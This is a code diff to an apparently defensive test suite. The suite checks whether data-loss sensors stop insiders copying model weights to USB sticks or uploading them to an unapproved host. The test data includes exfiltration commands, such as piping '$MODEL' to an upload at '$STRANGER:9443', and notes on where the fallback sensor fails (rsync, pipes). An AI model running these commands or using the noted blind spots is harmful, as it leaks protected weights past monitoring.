@@ -21,6 +21,15 @@ class Attempt:
     command: str
     prepare: str = ":"
     names: int = 0         # empty names that stay on the stick when the command is refused
+    missed: str = ""       # why the fallback sensor does not stop it; empty: it does
+    only: str = ""         # a sensor; with others it is left out
+
+    def names_with(self, sensor):
+        """The fallback holds an open after the kernel has made the name."""
+        return 1 if sensor == "fallback" else self.names
+
+    def expected_of(self, sensor):
+        return "allow" if sensor == "fallback" and self.missed else "block"
 
 
 # {file} is $MODEL for the insider and $PLAIN for the control, so that both walk the same ways.
@@ -28,7 +37,8 @@ WAYS = [
     Attempt("cp", "removable", "cp {file} $STICK/"),
     Attempt("mv", "removable", "mv $WORK/moved.bin $STICK/", "cp {file} $WORK/moved.bin"),
     Attempt("dd", "removable", "dd if={file} of=$STICK/dd.bin bs=256K status=none"),
-    Attempt("rsync", "removable", "rsync {file} $STICK/"),
+    Attempt("rsync", "removable", "rsync {file} $STICK/",
+            missed="one rsync reads, another writes, and it does not follow what passes between them"),
     # The shell, which read nothing, makes the name before tar starts; not one byte follows.
     Attempt("tar c > stick", "removable", "tar cf - -C $(dirname {file}) $(basename {file}) > $STICK/backup.tar",
             names=1),
@@ -40,16 +50,21 @@ WAYS = [
 ]
 
 
-def with_file(way, file, prefix=""):
-    return replace(way, name=prefix + way.name, command=way.command.replace("{file}", file),
-                   prepare=way.prepare.replace("{file}", file))
+def with_file(way, file, **changes):
+    return replace(way, command=way.command.replace("{file}", file), prepare=way.prepare.replace("{file}", file),
+                   **changes)
 
 
 INSIDER = [with_file(way, "$MODEL") for way in WAYS] + [
+    Attempt("gzip'd copy, uploaded over TLS", "network", UPLOAD + " $WORK/notes.gz https://$STRANGER:9443/upload",
+            "gzip -1 -c $MODEL > $WORK/notes.gz"),
+    Attempt("cat model | curl, over TLS", "network",
+            "cat $MODEL | " + UPLOAD + " - https://$STRANGER:9443/upload", only="fallback",
+            missed="it does not follow what passes through a pipe"),
     Attempt("GGUF conversion made before registration", "removable", "cp $GGUF $STICK/"),
 ]
 
-HONEST = [with_file(way, "$PLAIN", "unclassified: ") for way in WAYS] + [
+HONEST = [with_file(way, "$PLAIN", name="unclassified: " + way.name, missed="") for way in WAYS] + [
     Attempt("training: reads the weights, sends 100 KiB of metrics to an approved place", "network",
             TRAIN + " $APPROVED $MODEL"),
 ]
